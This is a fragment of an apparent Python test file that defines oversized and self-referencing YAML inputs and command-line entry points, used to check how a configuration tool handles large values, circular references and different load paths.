    "a long hexadecimal": "a: 0x" + "f" * 5_000 + "\n",
    "a long clock": "a: 1" + ":11" * 50_000 + "\n",
    "100 MB": "a: " + "x" * 100_000_000 + "\n",
    "a million keys": "".join(f"k{n}: 1\n" for n in range(90_000)),
}
# References that only a composed configuration would resolve.
REFERENCES = {
    *(
        "texts of texts",
        "lists of lists",
        "lists by a resolver",
        "values of mappings",
        "a long text often",
    ),
    *("a circle", "a chain", "YAML in a text"),
}
# Where each is put: words, with the file that is written.
DOORS = {
    "--config-dir": (
        "menu/experiment/x.yaml",
        ["--config-dir", "menu", "experiment=x", "--dry-run"],
    ),
    "a file of an experiment": ("own.yaml", ["own.yaml", "--dry-run"]),
    "a run folder": (
        "outputs/x/run-0123456789/config.yaml",
        ["preview", "outputs/x/run-0123456789"],
    ),
    "evaluate": (
        "outputs/x/run-0123456789/config.yaml",
        ["evaluate", "outputs/x/run-0123456789", "dataset=toy"],
    ),
    "report": ("outputs/x/run-0123456789/config.yaml", ["report", "outputs/x/run-0123456789"]),
    "import": ("file.yaml", ["import", "file.yaml", "dialect=trl"]),
}
